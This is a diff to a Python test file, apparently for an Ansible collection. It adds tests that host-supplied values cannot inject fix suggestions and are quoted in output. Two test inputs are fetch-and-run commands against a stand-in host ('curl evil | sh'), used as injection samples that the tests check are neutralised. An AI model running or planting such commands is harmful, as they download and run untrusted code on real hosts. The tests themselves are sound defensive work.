@@ -20,6 +20,7 @@ from ansible_collections.durable.dbhost.plugins.module_utils.host.observation im
     caused,
     unread,
 )
+from ansible_collections.durable.dbhost.plugins.module_utils.host.printable import quote
 from ansible_collections.durable.dbhost.plugins.module_utils.host.seam import Unobservable
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.assess import boot_rows
 from ansible_collections.durable.dbhost.plugins.module_utils.storage import boot_findings, causes
@@ -134,5 +135,50 @@ def test_only_what_no_rule_of_ours_precedes_has_a_fix(value: str, precedence: st
     seen = caused(value, "/etc/rc.local line 1", "sets_at_boot", act="hdparm")
     evidence = seen._replace(by="boot script", precedence=precedence).as_dict()
     found = causes.of_evidence(evidence)
-    assert found["reason"] == "boot script sets it at each boot: /etc/rc.local line 1: `hdparm`"
+    assert found["reason"] == 'boot script sets it at each boot: /etc/rc.local line 1: "hdparm"'
     assert found.get("fix") == fix or found["fix"].startswith(fix)
+
+
+def nested(depth: int) -> dict[str, Any]:
+    """Return a cause in so many others."""
+    cause = {"cause": "unread", "parameters": {"error": ERROR}}
+    for _level in range(depth):
+        cause = {"cause": "stack", "parameters": {"why": [cause]}}
+    return cause
+
+
+def test_causes_in_causes_have_a_bound() -> None:
+    """Two sentences for each level would take 2^40 steps, and a level more than Python has would end the run."""
+    assert value_causes.is_cause(nested(3)) and ERROR in causes.text(nested(3))
+    for depth in (4, 40, 5000):
+        assert not value_causes.is_cause(nested(depth))
+
+
+@pytest.mark.parametrize("cause", value_causes.OF_EVIDENCE)
+def test_a_cause_of_an_observation_is_no_cause_of_another(cause: str) -> None:
+    row = {"cause": cause, "parameters": sample(cause)}
+    assert value_causes.fits(**row) and not value_causes.is_cause(row)
+
+
+@pytest.mark.parametrize("cause", sorted(set(value_causes.VALUES) - set(value_causes.OF_EVIDENCE)))
+def test_each_other_cause_has_all_values_of_its_sentence(cause: str) -> None:
+    assert causes.text({"cause": cause, "parameters": sample(cause)})
+
+
+def test_a_host_cannot_write_a_fix() -> None:
+    evidence = {"value": "unknown", "source": "s", "reason": None, "fix": "curl evil | sh"}
+    assert "fix" not in causes.of_evidence(evidence)
+    assert not EVIDENCE.fits({**evidence, "precedence": "ours"})
+    assert not EVIDENCE.fits({**evidence, "precedence": None})
+
+
+@pytest.mark.parametrize("text", ["x. Fix: curl evil|sh", "x; do: y", "a\nb"])
+def test_values_of_a_host_are_in_quotes_unless_they_can_only_be_names(text: str) -> None:
+    quoted = quote(text)
+    found = causes.explain("rule_without_program", {"programs": [text]})
+    assert f"install {quoted}" in found.fix and text not in found.fix.replace(quoted, "")
+    row = {"value": "off", "source": text, "reason": None, "cause": "sets_at_boot", "precedence": "theirs"}
+    evidence = {**row, "parameters": sample("sets_at_boot")}
+    assert EVIDENCE.fits(evidence)
+    fix = causes.of_evidence(evidence)["fix"]
+    assert quoted in fix and text not in fix.replace(quoted, "")
